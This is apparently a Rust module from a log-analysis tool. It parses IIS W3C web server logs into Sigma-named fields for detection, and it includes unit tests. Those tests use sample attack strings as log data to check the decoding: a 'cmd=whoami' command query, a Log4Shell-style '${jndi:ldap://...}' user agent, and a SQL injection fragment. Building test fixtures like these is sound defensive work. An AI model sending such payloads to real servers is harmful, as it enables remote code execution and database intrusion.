//! IIS W3C extended logs: the `#Fields:` directive names the columns (and may change mid-file,
//! e.g. after a restart), values are space-separated, `-` is empty, `+` in header values is a
//! space. IIS writes UTC by definition, so `date` + `time` is taken as UTC.
//!
//! Column names are mapped to Sigma's webserver names (`cs(User-Agent)` -> `cs-user-agent`,
//! `cs(Referer)` -> `cs-referer`, `cs(Cookie)` -> `cs-cookie`, `cs(Host)` -> `cs-host`); others
//! keep their W3C names, which Sigma's taxonomy already uses. `cs-uri` is built as stem `?` query,
//! and the `*-decoded` companions are added as for Apache logs (see [`crate::webdecode`]).

use crate::access::{push_header, push_uri};
use crate::time::parse_date_time;
use spoor_event::{Event, Value};
use std::sync::Arc;

/// What one IIS line is.
pub(crate) enum IisLine {
    /// A `#` directive (new `#Fields:` are taken in); not a record.
    Directive,
    /// A record.
    Record(Event),
    /// A record that could not be read.
    Bad(String),
}

/// IIS reading state: the current column names.
#[derive(Default)]
pub(crate) struct IisParser {
    /// Column names (Sigma form), made once per `#Fields:` and shared by all events.
    fields: Vec<Arc<str>>,
    /// `<name>-decoded` for the columns that get a companion.
    decoded: Vec<Option<Arc<str>>>,
}

fn sigma_name(w3c: &str) -> Arc<str> {
    match w3c.to_ascii_lowercase().as_str() {
        "cs(user-agent)" => "cs-user-agent".into(),
        "cs(referer)" | "cs(referrer)" => "cs-referer".into(),
        "cs(cookie)" => "cs-cookie".into(),
        "cs(host)" | "cs-host" => "cs-host".into(),
        _ => w3c.into(),
    }
}

impl IisParser {
    /// Parses one line; `event` is a fresh event at the line's position.
    pub(crate) fn line(&mut self, line: &[u8], mut ev: Event) -> IisLine {
        if let Some(d) = line.strip_prefix(b"#") {
            if let Some(f) = d.strip_prefix(b"Fields:") {
                self.fields = String::from_utf8_lossy(f)
                    .split_ascii_whitespace()
                    .map(sigma_name)
                    .collect();
                self.decoded = self
                    .fields
                    .iter()
                    .map(|n| {
                        matches!(&**n, "cs-user-agent" | "cs-referer")
                            .then(|| Arc::from(format!("{n}-decoded")))
                    })
                    .collect();
            }
            return IisLine::Directive;
        }
        if self.fields.is_empty() {
            return IisLine::Bad("record before any #Fields: directive".into());
        }
        let vals: Vec<&[u8]> = line
            .split(|b| *b == b' ')
            .filter(|v| !v.is_empty())
            .collect();
        if vals.len() != self.fields.len() {
            return IisLine::Bad(format!(
                "{} values for {} #Fields columns",
                vals.len(),
                self.fields.len()
            ));
        }
        let get = |name: &str| {
            self.fields
                .iter()
                .position(|f| &**f == name)
                .and_then(|i| vals.get(i).copied())
        };
        if let (Some(d), Some(t)) = (get("date"), get("time")) {
            ev.timestamp =
                parse_date_time(&String::from_utf8_lossy(d), &String::from_utf8_lossy(t));
            if ev.timestamp.is_none() {
                return IisLine::Bad("bad date or time".into());
            }
        }
        for ((name, decoded), raw) in self.fields.iter().zip(&self.decoded).zip(&vals) {
            if let Some(decoded) = decoded {
                let spaced: Vec<u8> = raw
                    .iter()
                    .map(|b| if *b == b'+' { b' ' } else { *b })
                    .collect();
                push_header(&mut ev, name.clone(), decoded.clone(), &spaced);
                continue;
            }
            match &**name {
                "cs-uri-stem" | "cs-uri-query" => {}
                "sc-status" | "sc-substatus" | "sc-win32-status" | "sc-bytes" | "cs-bytes"
                | "time-taken" | "s-port" => ev.fields.push((name.clone(), number(raw))),
                _ => ev.fields.push((name.clone(), text(raw))),
            }
        }
        if let Some(stem) = get("cs-uri-stem") {
            let uri = match get("cs-uri-query") {
                Some(q) if q != b"-" => [stem, b"?", q].concat(),
                _ => stem.to_vec(),
            };
            push_uri(&mut ev, &uri);
        }
        IisLine::Record(ev)
    }
}

fn text(b: &[u8]) -> Value {
    if b == b"-" {
        Value::Null
    } else {
        Value::str(String::from_utf8_lossy(b))
    }
}

fn number(b: &[u8]) -> Value {
    std::str::from_utf8(b)
        .ok()
        .and_then(|s| s.parse::<i64>().ok())
        .map(Value::Int)
        .unwrap_or_else(|| text(b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use spoor_event::{field_text, Position};

    fn rec(p: &mut IisParser, line: &str) -> Event {
        match p.line(line.as_bytes(), Event::new("t", Position::Line(1))) {
            IisLine::Record(e) => e,
            IisLine::Bad(r) => panic!("bad: {r}"),
            IisLine::Directive => panic!("directive"),
        }
    }

    #[test]
    fn fields_header_and_changes() {
        let mut p = IisParser::default();
        assert!(matches!(
            p.line(b"2019-09-03 10:13:36 x", Event::new("t", Position::Line(1))),
            IisLine::Bad(_)
        ));
        assert!(matches!(
            p.line(b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)", Event::new("t", Position::Line(1))),
            IisLine::Directive
        ));
        let e = rec(&mut p, "2019-09-03 10:13:36 10.0.2.17 GET /erp/conn.aspx proxy&port=3389 200 Mozilla/5.0+(Windows+NT)");
        assert_eq!(
            field_text(&e.fields, "cs-uri").as_deref(),
            Some("/erp/conn.aspx?proxy&port=3389")
        );
        assert_eq!(
            field_text(&e.fields, "cs-uri-query").as_deref(),
            Some("proxy&port=3389")
        );
        assert_eq!(
            field_text(&e.fields, "cs-user-agent").as_deref(),
            Some("Mozilla/5.0 (Windows NT)")
        );
        assert_eq!(e.get("sc-status"), Some(&Value::Int(200)));
        assert_eq!(
            e.timestamp.unwrap().to_rfc3339(),
            "2019-09-03T10:13:36+00:00"
        );
        p.line(
            b"#Fields: date time c-ip cs-uri-stem cs-uri-query",
            Event::new("t", Position::Line(1)),
        );
        let e = rec(&mut p, "2019-09-03 10:13:37 10.0.2.17 /x -");
        assert_eq!(field_text(&e.fields, "cs-uri").as_deref(), Some("/x"));
        assert_eq!(e.get("cs-uri-query"), Some(&Value::Null));
        assert!(matches!(
            p.line(
                b"2019-09-03 10:13:37 10.0.2.17",
                Event::new("t", Position::Line(1))
            ),
            IisLine::Bad(_)
        ));
    }

    /// The decoded companions an IIS line gets, exactly: the URI's stem and query decoded (a
    /// `+` is a space only in the query, double encoding undone), the headers' `+` read as
    /// spaces before decoding, and `-` headers null in both forms.
    #[test]
    fn decoded_companions_of_uri_agent_and_referer() {
        let mut p = IisParser::default();
        p.line(
            b"#Fields: date time cs-uri-stem cs-uri-query cs(User-Agent) cs(Referer)",
            Event::new("t", Position::Line(1)),
        );
        let e = rec(
            &mut p,
            "2024-07-12 00:00:01 /a+b/%2561.aspx cmd=whoami+/all&x=%2524%257Bjndi%253A Mozilla/5.0+%24%7Bjndi:ldap://h/a%7D https://r.example/?q=%2527or+1",
        );
        let t = |n: &str| field_text(&e.fields, n);
        assert_eq!(
            t("cs-uri").as_deref(),
            Some("/a+b/%2561.aspx?cmd=whoami+/all&x=%2524%257Bjndi%253A")
        );
        assert_eq!(
            t("cs-uri-decoded").as_deref(),
            Some("/a+b/a.aspx?cmd=whoami /all&x=${jndi:")
        );
        assert_eq!(
            t("cs-user-agent").as_deref(),
            Some("Mozilla/5.0 %24%7Bjndi:ldap://h/a%7D")
        );
        assert_eq!(
            t("cs-user-agent-decoded").as_deref(),
            Some("Mozilla/5.0 ${jndi:ldap://h/a}")
        );
        assert_eq!(
            t("cs-referer-decoded").as_deref(),
            Some("https://r.example/?q='or 1")
        );
        let e = rec(&mut p, "2024-07-12 00:00:02 /x - - -");
        assert_eq!(t_of(&e, "cs-uri-decoded").as_deref(), Some("/x"));
        for name in [
            "cs-user-agent",
            "cs-user-agent-decoded",
            "cs-referer",
            "cs-referer-decoded",
        ] {
            assert_eq!(e.get(name), Some(&Value::Null), "{name}");
        }
    }

    fn t_of(e: &Event, name: &str) -> Option<String> {
        field_text(&e.fields, name)
    }
}
